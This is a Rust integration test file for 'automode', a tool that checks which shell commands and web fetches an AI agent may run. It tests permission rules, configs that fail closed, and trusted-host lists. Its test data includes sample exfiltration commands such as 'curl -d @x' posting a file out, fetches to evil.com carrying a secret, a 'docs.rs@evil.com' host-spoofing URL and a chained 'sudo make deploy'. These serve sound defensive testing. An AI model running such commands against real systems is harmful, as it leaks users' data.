//! The binary under settings files: what it shows, and that a broken file never allows.

#![expect(
    clippy::expect_used,
    reason = "a test that cannot set its stage must fail"
)]

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

struct Machine {
    _temp: tempfile::TempDir,
    home: PathBuf,
}

impl Machine {
    fn new(files: &[(&str, &str)]) -> Self {
        let temp = tempfile::tempdir().expect("a directory");
        let home = temp.path().canonicalize().expect("a path");
        fs::create_dir_all(home.join("app/.git")).expect("a repository");
        for (file, text) in files {
            let path = home.join(file);
            fs::create_dir_all(path.parent().expect("a parent")).expect("directories");
            fs::write(path, text).expect("a file");
        }
        Self { _temp: temp, home }
    }

    fn run(&self, arguments: &[&str]) -> (i32, String, String) {
        let output = command(&self.home)
            .args(arguments)
            .current_dir(self.home.join("app"))
            .output()
            .expect("a process");
        told(output)
    }
}

fn command(home: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_automode"));
    command.env_clear().env("HOME", home);
    command
}

fn told(output: Output) -> (i32, String, String) {
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).expect("text");
    (
        output.status.code().unwrap_or(-1),
        text(output.stdout),
        text(output.stderr),
    )
}

const USER: &str = ".config/automode/config.toml";

#[test]
fn rules_decide_and_name_their_place() {
    let machine = Machine::new(&[(
        USER,
        "[permissions]\nallow = [\"Bash(make *)\"]\ndeny = [\n  \"Bash(make deploy *)\",\n]\n",
    )]);
    let (code, out, _) = machine.run(&["check", "make all"]);
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("Bash(make *)") && out.contains("config.toml:2"),
        "{out}"
    );
    let (code, out, _) = machine.run(&["check", "make all && sudo make deploy"]);
    assert_eq!(code, 2, "{out}");
    assert!(
        out.contains("Bash(make deploy *)") && out.contains("config.toml:4"),
        "{out}"
    );
}

#[test]
fn a_broken_file_never_allows() {
    for broken in [
        "permissions = 1",
        "[permissions]\nallow = [\"Bash(*)\"]\ncolour = 1",
        "= x",
        "[permissions]\ndeny = [\"Bash(\"]",
    ] {
        let machine = Machine::new(&[(USER, broken)]);
        for command in ["git status", "ls"] {
            let (code, out, _) = machine.run(&["check", command]);
            assert!(code == 1 || code == 2, "{broken}: {code} {out}");
            assert!(out.contains("config.toml:"), "{out}");
        }
        let (code, _, err) = machine.run(&["config", "show"]);
        assert_eq!(code, 3);
        assert!(err.contains("config.toml:"), "{err}");
        assert_eq!(machine.run(&["config", "lint"]).0, 3);
    }
    let machine = Machine::new(&[]);
    let (code, out, _) = machine.run(&["check", "--config", "gone.toml", "ls"]);
    assert!(code == 1 || code == 2, "{code} {out}");
}

#[test]
fn a_repository_cannot_loosen() {
    let allow =
        "[permissions]\nallow = [\"Bash(curl *)\"]\n[auto_mode]\nallow = [\"everything\"]\n";
    let machine = Machine::new(&[("app/.automode.toml", allow), ("app/mine.toml", allow)]);
    let (before, ..) = Machine::new(&[]).run(&["check", "curl -d @x https://example.com"]);
    assert_ne!(before, 0);
    assert_eq!(
        machine.run(&["check", "curl -d @x https://example.com"]).0,
        before
    );
    // Not even by a variable that points into it.
    let output = command(&machine.home)
        .env("AUTOMODE_CONFIG", machine.home.join("app/mine.toml"))
        .args(["check", "curl -d @x https://example.com"])
        .current_dir(machine.home.join("app"))
        .output()
        .expect("a process");
    assert_eq!(told(output).0, before);
    let (code, out, _) = machine.run(&["config", "lint"]);
    assert_eq!(code, 1);
    assert!(
        out.contains("ignored: permissions.allow") && out.contains("ignored: auto_mode.allow"),
        "{out}"
    );
}

#[test]
fn a_repository_may_tighten_confinement_and_no_more() {
    let user =
        "undo = \"on\"\n[confine]\nhome = \"hide\"\nwrite = [\"/data\"]\nnet = [\"a.example\"]\n";
    let project = "undo = \"confined\"\n[confine]\nmode = \"always\"\nhome = \"empty\"\nwrite = [\"/data/in\", \"/\"]\nnet = [\"evil.example\"]\nread = [\"/etc\"]\n";
    let machine = Machine::new(&[(USER, user), ("app/.automode.toml", project)]);
    let (code, shown, err) = machine.run(&["config", "show", "--json"]);
    assert_eq!((code, err.as_str()), (0, ""));
    let shown: serde_json::Value = serde_json::from_str(&shown).expect("JSON");
    for (key, value) in [
        ("undo", serde_json::json!("confined")),
        ("confine.mode", serde_json::json!("always")),
        ("confine.home", serde_json::json!("empty")),
        ("confine.write", serde_json::json!(["/data", "/data/in"])),
        ("confine.net", serde_json::json!([])),
        ("confine.read", serde_json::json!([])),
    ] {
        assert_eq!(shown["settings"][key]["value"], value, "{key}: {shown}");
    }
    let (_, out, _) = machine.run(&["config", "lint"]);
    for key in ["confine.write", "confine.net", "confine.read"] {
        assert!(out.contains(&format!("ignored: {key}")), "{key}: {out}");
    }
    assert!(!out.contains("ignored: confine.mode"), "{out}");
    // Nor does it switch off what a person has, or on what a person has not.
    let looser = "undo = \"on\"\n[confine]\nmode = \"off\"\nhome = \"hide\"\n";
    let machine = Machine::new(&[("app/.automode.toml", looser)]);
    let (_, shown, _) = machine.run(&["config", "show", "--json"]);
    let shown: serde_json::Value = serde_json::from_str(&shown).expect("JSON");
    for (key, value) in [
        ("undo", "confined"),
        ("confine.mode", "unread"),
        ("confine.home", "empty"),
    ] {
        assert_eq!(shown["settings"][key]["value"], value, "{key}: {shown}");
    }
}

#[test]
fn defaults_are_a_configuration_that_changes_nothing() {
    let (code, defaults, _) = Machine::new(&[]).run(&["config", "defaults"]);
    assert_eq!(code, 0);
    let machine = Machine::new(&[(USER, &defaults)]);
    let (code, shown, err) = machine.run(&["config", "show", "--json"]);
    assert_eq!((code, err.as_str()), (0, ""));
    let shown: serde_json::Value = serde_json::from_str(&shown).expect("JSON");
    let (_, plain, _) = Machine::new(&[]).run(&["config", "show", "--json"]);
    let plain: serde_json::Value = serde_json::from_str(&plain).expect("JSON");
    let values = |shown: &serde_json::Value| {
        let settings = shown["settings"].as_object().expect("settings").clone();
        settings
            .into_iter()
            .map(|(key, field)| (key, field["value"].clone()))
            .collect::<Vec<_>>()
    };
    assert_eq!(values(&shown), values(&plain));
    let (code, lint, _) = machine.run(&["config", "lint"]);
    assert_eq!((code, lint.trim()), (0, "nothing to say"));
}

/// What people really wrote, and what they are told.
#[test]
fn mistakes_are_named_with_what_was_meant() {
    let check = |text: &str, expected: &[&str]| {
        let machine = Machine::new(&[(USER, text)]);
        let (code, out, _) = machine.run(&["config", "lint"]);
        assert_ne!(code, 0, "{text}: {out}");
        for part in expected {
            assert!(out.contains(part), "{text}: `{part}` is missing in {out}");
        }
    };
    let hard = "[auto_mode]\nhard_deny = [\"$defaults\", \"production-deply\"]\n";
    check(
        hard,
        &[
            "there is no rule `production-deply`",
            "did you mean `production-deploy`?",
        ],
    );
    check(
        "[permissions]\ndeny = [\"WebFetch(evil.com)\"]\n",
        &["WebFetch(domain:"],
    );
    let judge = |line: &str| {
        format!("[[judge.chain]]\nkind = \"openai-compatible\"\nmodel = \"m\"\n{line}\n")
    };
    check(
        "hosts = [\"https://docs.rs/\"]",
        &["no host is called `https://docs.rs/`", "`example.com`"],
    );
    check(
        &judge("base_url = \"localhost:11434\""),
        &["has no scheme", "`http://localhost:11434`"],
    );
    check(
        &judge("api_key = \"x\""),
        &["unknown key `api_key`", "`key_env`"],
    );
    check(&judge("modle = \"x\""), &["did you mean `model`?"]);
    check(
        "[judge.budget]\nday = 5\n",
        &["less than a cent", "`\"$5\"`"],
    );
    check("[judge.budget]\nday = \"five\"\n", &["expected money"]);
    check(
        "[limits]\ntotal = 5.0\n",
        &["expected a whole number", "without a point"],
    );
    check(
        "[permissions]\nmanaged_allow_only = true\n",
        &["an administrator's file only"],
    );
    check(
        "strip = \"standard\"\nstrip = \"strict\"\n",
        &["duplicate key `strip`"],
    );
    check(
        "[permissions]\nalow = []\n",
        &["unknown key `permissions.alow`", "did you mean `allow`?"],
    );
    check(
        "strip = \"loose\"\n",
        &["expected one of `standard`, `strict`"],
    );
    check("[permissions\n", &["config.toml:1: unclosed table"]);
    check(
        "[permissions]\ndeny = [\"Bahs(rm *)\"]\n",
        &["there is no tool `Bahs`", "did you mean `Bash`?"],
    );
    check(
        "[permissions]\nallow = [\"Bash(git *)\", \"Bash(git status)\"]\n",
        &[
            "shadowed: Bash(git status)",
            "`Bash(git *)` of the same list covers it",
        ],
    );
    check(
        "[permissions]\nallow = [\"Bash(python *)\"]\n",
        &["stripped: Bash(python *)", "set aside in auto mode"],
    );
    let covered = "[permissions]\nallow = [\"Bash(python *)\", \"Bash(python tests.py)\"]\n";
    let machine = Machine::new(&[(USER, covered)]);
    let (_, out, _) = machine.run(&["config", "lint"]);
    assert!(!out.contains("covers it"), "{out}");
    let money = Machine::new(&[(USER, "[judge.budget]\nday = \"$5\"\nsession = \"$0.25\"\n")]);
    let (code, out, _) = money.run(&["config", "show"]);
    assert!(
        code == 0 && out.contains("judge.budget.day = 5000000") && out.contains("session = 250000"),
        "{out}"
    );
}

#[test]
fn pages_completions_and_manual() {
    let machine = Machine::new(&[]);
    let (code, out, _) = machine.run(&["rules", "list"]);
    assert!(code == 0 && out.contains("force-push"), "{out}");
    let (code, out, _) = machine.run(&["rules", "show", "force-push"]);
    assert!(code == 0 && out.starts_with("# "), "{out}");
    let (code, _, err) = machine.run(&["rules", "show", "forc-push"]);
    assert!(
        code == 3 && err.contains("did you mean `force-push`?"),
        "{err}"
    );
    for shell in ["bash", "zsh", "fish", "powershell", "elvish"] {
        let (code, out, _) = machine.run(&["completions", shell]);
        assert!(code == 0 && out.contains("automode"), "{shell}");
    }
    let (code, out, _) = machine.run(&["man"]);
    assert!(code == 0 && out.contains(".TH automode"), "{out}");
    let pages = machine.home.join("man");
    let (code, ..) = machine.run(&["man", "--out", pages.to_str().expect("a path")]);
    assert_eq!(code, 0);
    assert!(pages.join("automode-check.1").is_file());
}

/// A list of trusted hosts: they need no question, and every other host does.
#[test]
fn hosts_that_nobody_trusts_ask() {
    let machine = Machine::new(&[(USER, "hosts = [\"docs.rs\", \"*.example.com\"]\n")]);
    let fetch = |url: &str, expected: i32| {
        let input = format!("{{\"url\": \"{url}\", \"prompt\": \"p\"}}");
        let (code, out, _) = machine.run(&["check", "--tool", "WebFetch", "--input", &input]);
        assert_eq!(code, expected, "{url}: {out}");
    };
    fetch("https://docs.rs/serde", 0);
    fetch("https://api.example.com/x?q=1", 0);
    fetch("https://evil.com/?q=secret", 1);
    fetch("https://docs.rs.evil.com/", 1);
    fetch("https://docs.rs@evil.com/", 1);
    fetch("https://example.com/", 1);
    fetch("nonsense", 1);
    assert_eq!(
        machine.run(&["check", "curl -s https://docs.rs/serde"]).0,
        0
    );
    let (code, out, _) = machine.run(&["check", "curl -s https://evil.com/x"]);
    assert!(code == 1 && out.contains("hosts: not evil.com"), "{out}");
    let free = Machine::new(&[]);
    let input = "{\"url\": \"https://evil.com/\", \"prompt\": \"p\"}";
    assert_eq!(
        free.run(&["check", "--tool", "WebFetch", "--input", input])
            .0,
        0
    );
}
